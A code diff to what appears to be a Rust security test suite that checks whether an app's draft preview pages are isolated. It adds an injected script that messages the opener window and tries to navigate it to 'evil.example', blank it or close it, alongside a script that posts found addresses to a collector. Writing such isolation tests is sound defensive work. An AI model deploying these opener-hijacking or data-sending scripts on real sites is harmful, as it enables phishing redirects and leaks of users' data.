@@ -18,11 +18,16 @@ pub(crate) const TESTS: Tests = &[
     ("a_page_that_isolates_itself_is_explained", &a_page_that_isolates_itself_is_explained),
 ];
 
-/// Code that reports itself to the parent page, and says all addresses that it can find to the collector.
+/// Code that reports itself to the parent page, and says all addresses that it can find to the collector. It also
+/// asks the page of the link, and tries to lead it away.
 fn draft(cx: &Cx) -> String {
     let hit = cx.collector.hit_url("draft");
     format!(
         "<script>c2c.emit('draft');
+        top.opener?.postMessage({{ c2c: 'preview?', app: document.currentScript.dataset.app }}, '*');
+        for (const leave of [() => (top.opener.location = 'https://evil.example/'), () => top.opener.location.replace('about:blank'), () => top.opener.close()]) {{
+          try {{ leave(); }} catch {{}}
+        }}
         const body = JSON.stringify({ADDRESSES});
         fetch('{hit}', {{ method: 'POST', body }});</script>"
     )
@@ -47,7 +52,8 @@ const LIVE: &str = "<script>c2c.emit('live')</script>";
 async fn app(cx: &Cx) -> Result<&App> {
     let app = cx.app().await?;
     app.publish(LIVE, "").await?;
-    app.save_draft(&draft(cx), "").await?;
+    let code = draft(cx).replace("document.currentScript.dataset.app", &format!("{:?}", app.id));
+    app.save_draft(&code, "").await?;
     Ok(app)
 }
 
